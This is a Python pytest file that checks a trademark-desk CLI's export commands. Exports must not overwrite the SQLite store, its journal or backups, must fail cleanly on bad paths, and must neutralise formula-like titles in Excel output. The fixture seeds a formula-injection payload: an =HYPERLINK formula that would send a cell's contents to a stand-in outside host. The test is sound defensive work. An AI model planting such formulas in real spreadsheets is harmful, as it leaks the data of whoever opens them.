"""A clerk points an export at the wrong file: the store survives, the error names --out, nothing is half written.

Each story runs the real CLI entry point (in process) on a real SQLite store and compares the store's bytes
before and after."""

from __future__ import annotations

import hashlib
import json
import os
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from qcy_workstation.cli import main


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def db(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    path = tmp_path / "desk.sqlite"
    code, _, err = _cli(capsys, "--db", str(path), "cases", "add", "--type", "trademark", "--title",
                        "=HYPERLINK(\"http://example.invalid/?\"&B4,\"点击查看\")", "--applicant",
                        "西安秦韵茶业有限公司", "--mark", "秦韵", "--classes", "30")
    assert code == 0, err
    return path


def _no_leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".part"))


@pytest.mark.parametrize("command", [
    ["export", "--doc", "guidance", "--topic", "evidence", "--format", "pdf", "--out", "{target}"],
    ["cases", "list", "--xlsx", "{target}"],
    ["stats", "--xlsx", "{target}"],
    ["enterprise", "report", "西安秦韵茶业有限公司", "--year", str(date.today().year), "--out", "{target}"],
])
@pytest.mark.parametrize("target", ["{db}", "{db}-wal", "{db}-shm", "{files}/evil.pdf", "{backup}"])
def test_no_export_is_ever_written_over_the_store_its_journal_its_files_or_a_backup(
        db: Path, capsys: pytest.CaptureFixture[str], command: list[str], target: str) -> None:
    files = db.with_name(db.stem + "-files")
    files.mkdir(exist_ok=True)
    backup = db.with_name(db.name + ".before-0004-20260101-000000.bak")
    backup.write_bytes(db.read_bytes())
    resolved = target.format(db=db, files=files, backup=backup)
    before = _digest(db)
    existing = Path(resolved).read_bytes() if Path(resolved).exists() else None

    code, _, err = _cli(capsys, "--db", str(db), *[a.format(target=resolved) for a in command])

    assert code == 1
    assert "out.store" in err and "Traceback" not in err
    assert _digest(db) == before
    assert (Path(resolved).read_bytes() if Path(resolved).exists() else None) == existing
    assert _no_leftovers(db.parent) == [] and _no_leftovers(files) == []


def test_an_export_given_an_existing_folder_or_an_unwritable_place_fails_cleanly(
        db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "reports"
    folder.mkdir()
    code, _, err = _cli(capsys, "--db", str(db), "--json", "export", "--doc", "guidance", "--topic", "evidence",
                        "--format", "pdf", "--out", str(folder))
    assert code == 1 and json.loads(err)["reason"] == "out.is_folder"
    assert list(folder.iterdir()) == []

    blocker = tmp_path / "not-a-folder"
    blocker.write_text("x")
    code, _, err = _cli(capsys, "--db", str(db), "--json", "cases", "list", "--xlsx", str(blocker / "cases.xlsx"))
    assert code == 1 and json.loads(err)["reason"] == "out.unwritable" and json.loads(err)["field"] == "out"
    assert blocker.read_text() == "x"


def test_an_export_replaces_an_older_copy_whole_and_leaves_no_part_file(
        db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "guidance.pdf"
    out.write_bytes(b"an older copy")
    code, _, err = _cli(capsys, "--db", str(db), "export", "--doc", "guidance", "--topic", "evidence", "--out",
                        str(out))
    assert code == 0, err
    assert out.read_bytes().startswith(b"%PDF") and _no_leftovers(tmp_path) == []


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root may write anywhere")
def test_a_read_only_folder_is_refused_by_name(db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        code, _, err = _cli(capsys, "--db", str(db), "--json", "export", "--doc", "guidance", "--topic", "evidence",
                            "--out", str(locked / "g.pdf"))
        assert code == 1 and json.loads(err)["reason"] == "out.unwritable"
    finally:
        locked.chmod(0o700)


def test_a_title_that_looks_like_a_formula_comes_out_of_excel_as_text(
        db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "cases.xlsx"
    code, _, err = _cli(capsys, "--db", str(db), "cases", "list", "--xlsx", str(out))
    assert code == 0, err
    ws = load_workbook(out).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells, "the title is in the workbook"
    for cell in cells:
        assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")  # the text as typed, not a formula
        assert cell.quotePrefix
